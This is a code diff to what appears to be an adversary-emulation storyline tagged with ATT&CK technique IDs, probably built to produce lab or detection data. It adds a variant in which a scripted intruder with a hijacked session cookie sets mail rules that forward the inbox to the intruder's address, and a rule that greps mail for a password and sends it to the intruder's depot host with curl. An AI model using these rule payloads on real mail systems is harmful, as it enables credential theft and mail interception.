@@ -228,8 +228,10 @@ def call_back(own: Intruder, cookie: str) -> Shell:
 
 
 def play(own: Intruder) -> None:
-    middle = (5.0, 15.0)[own.variant]
-    file = own.pick((("letter-count", "bounce-count"), ("kdeskd", "pulse-note"))[own.variant])
+    middle = (5.0, 15.0, 7.0)[own.variant]
+    file = own.pick(
+        (("letter-count", "bounce-count"), ("kdeskd", "pulse-note"), ("desk-pulse", "tray-note"))[own.variant]
+    )
     own.offer(file, NOTE.replace("DEPOT", own.depot))
     names = {"word": a_word(own), "file": file, "depot": own.depot, "from": own.address, "low": "postroom"}
     take_mail(own, 2526)
@@ -245,13 +247,15 @@ def play(own: Intruder) -> None:
     own.step("letters of the rooms", "TA0009", "With the session the intruder reads the inbox and forwards what comes.")
     ask(own, "GET", "/rules", "T1550.004", cookie=cookie)
     own.think(middle)
-    shown = ask(own, "GET", "/inbox", "T1114", cookie=cookie)
+    ask(own, "GET", "/inbox", "T1114", cookie=cookie)
     own.think(middle)
-    assert "Clipboard" in shown, shown
     onward = f"forward {own.address}:2526"
-    ask(own, "POST", "/rules", "T1114.003", f"keep\n{onward}", cookie)
-    ask(own, "POST", "/write?to=rooms", "T1114.003", "Is room 4 free?")
-    ask(own, "POST", "/rules", "T1552.001", f"pipe grep -rhi 'my word' box | head -3 > plug/x\n{onward}", cookie)
+    if own.variant == 1:
+        ask(own, "POST", "/rules", "T1114.003", f"keep\n{onward}", cookie)
+        ask(own, "POST", "/write?to=rooms", "T1114.003", "Is room 4 free?")
+    # the letter with her word may be older than those that the page shows
+    search = f"pipe grep -rhi 'my word' box | head -3 | curl -s --data-binary @- {own.depot}/w"
+    ask(own, "POST", "/rules", "T1552.001", f"{search}\n{onward}", cookie)
     ask(own, "POST", "/write?to=rooms", "T1552.001", "And room 5?")
     ask(own, "POST", "/rules", "T1114.003", f"keep\n{onward}", cookie)
     own.step("as Nadia", "TA0001", "Her word, told in a letter, opens her account on the host itself.")
@@ -274,7 +278,7 @@ STORYLINE = Storyline(
         Visit(PORT, 130, path="/"),
     ),
     play=play,
-    variants=2,
+    variants=3,
     hosts=("clinic-14",),
     minutes=14,
 )
